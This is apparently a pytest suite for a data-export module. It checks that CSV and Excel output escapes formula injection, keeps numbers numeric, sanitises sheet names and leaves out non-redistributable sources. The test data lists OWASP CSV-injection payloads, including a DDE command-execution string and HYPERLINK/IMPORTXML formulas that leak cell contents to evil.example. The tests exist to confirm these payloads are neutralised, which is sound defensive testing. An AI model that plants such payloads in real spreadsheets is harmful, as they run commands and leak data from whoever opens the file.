"""CSV and Excel downloads: formula injection neutralised (OWASP), numbers kept as numbers, and
non-redistributable sources left out with a note."""

from __future__ import annotations

import io

import numpy as np
import openpyxl
import pandas as pd
import pytest

from exports.tables import (
    csv_bytes,
    excel_bytes,
    neutralise_formulas,
    neutralise_text,
    redistributable_values,
    sheet_name,
)
from indicators.catalogue import Catalogue
from tests.exports_helpers import shipped

# OWASP "CSV Injection" payloads: each must come back as text with a leading apostrophe.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "-",
    "@",
]
# " =x" is not harmless: spreadsheets may skip the space (issue #18; tests/test_hostile_round2.py).
HARMLESS = ["Russia", "Côte d'Ivoire", "", "a =not at the start", "1+1", "'already quoted"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_get_a_leading_apostrophe(payload):
    assert neutralise_text(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text):
    assert neutralise_text(text) == text


@pytest.mark.parametrize("number", [-2, -2.5, 0, 3.0, np.int64(-7), np.float64(-0.5), True])
def test_numbers_stay_numbers(number):
    assert neutralise_text(number) is number


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "country": ["Russia", *PAYLOADS[:4]],
            "score": [-1.5, 2.0, -3.0, np.nan, 4.0],
            "rank": pd.array([1, 2, None, 4, 5], dtype="Int64"),
            "note": pd.array(["ok", None, "@x", "fine", "-1"], dtype="str"),
        }
    )


def test_neutralise_formulas_touches_text_columns_and_headers_only():
    df = frame().rename(columns={"note": "=note"})
    out = neutralise_formulas(df)
    assert out["country"].tolist() == ["Russia", *("'" + p for p in PAYLOADS[:4])]
    assert out["'=note"].tolist()[2] == "'@x"
    assert pd.isna(out.iloc[1, 3])
    pd.testing.assert_series_equal(out["score"], df["score"])
    pd.testing.assert_series_equal(out["rank"], df["rank"])
    assert list(df.columns)[3] == "=note"  # input untouched


def test_csv_bytes_round_trip():
    data = csv_bytes(frame())
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    back = pd.read_csv(io.BytesIO(data), keep_default_na=False, na_values=[""])
    assert back["country"].tolist()[1] == "'" + PAYLOADS[0]
    assert back["score"].tolist()[:3] == [-1.5, 2.0, -3.0]
    assert not csv_bytes(frame(), bom=False).startswith(b"\xef\xbb\xbf")


def test_excel_cells_are_text_not_formulas():
    data = excel_bytes({"scores": frame(), "=evil": pd.DataFrame({"x": ["+1"]})})
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["scores", "=evil"]  # sheet names are not cells
    sheet = book["scores"]
    cells = [sheet.cell(row=r, column=1) for r in range(2, 7)]
    assert all(cell.data_type == "s" for cell in cells)
    assert [c.value for c in cells][1:] == ["'" + p for p in PAYLOADS[:4]]
    scores = [sheet.cell(row=r, column=2).value for r in range(2, 7)]
    assert scores[:3] == [-1.5, 2.0, -3.0] and sheet.cell(row=2, column=2).data_type == "n"
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize(
    ("name", "expected"),
    [("scores", "scores"), ("a/b:c*d?[e]", "a_b_c_d__e_"), ("x" * 40, "x" * 31)],
)
def test_sheet_names(name, expected):
    assert sheet_name(name) == expected


def test_sheet_names_stay_unique():
    assert sheet_name("scores", {"Scores"}) == "scores (2)"


def test_excel_needs_a_sheet():
    with pytest.raises(ValueError, match="sheet"):
        excel_bytes({})


# ----------------------------------------------------------------------------- licences
def test_non_redistributable_indicators_are_left_out_and_named():
    data = shipped()
    kept, note = redistributable_values(data.values, data.catalogue)
    blocked = data.catalogue.with_sources().query("redistributable == False")["indicator"]
    assert set(blocked) >= {"rsf_press_freedom", "fh_total_score", "diplomatic_posts"}
    assert not kept["indicator"].isin(blocked).any()
    assert len(kept) == (~data.values["indicator"].isin(blocked)).sum()
    for name in ("Press freedom score (RSF)", "Reporters Without Borders (RSF)", "Lowy"):
        assert name in note
    assert "World Bank" not in note  # redistributable sources are not named


def test_nothing_left_out_gives_no_note():
    data = shipped()
    open_only = data.values[data.values["indicator"] == "remittances_gdp"]
    kept, note = redistributable_values(open_only, data.catalogue)
    assert len(kept) == len(open_only) and note == ""


def test_a_catalogue_without_the_flag_keeps_everything():
    data = shipped()
    sources = data.catalogue.sources.drop(columns="redistributable")
    catalogue = Catalogue(
        data.catalogue.dimensions, data.catalogue.indicators, sources, data.catalogue.sides
    )
    kept, note = redistributable_values(data.values, catalogue)
    assert len(kept) == len(data.values) and note == ""
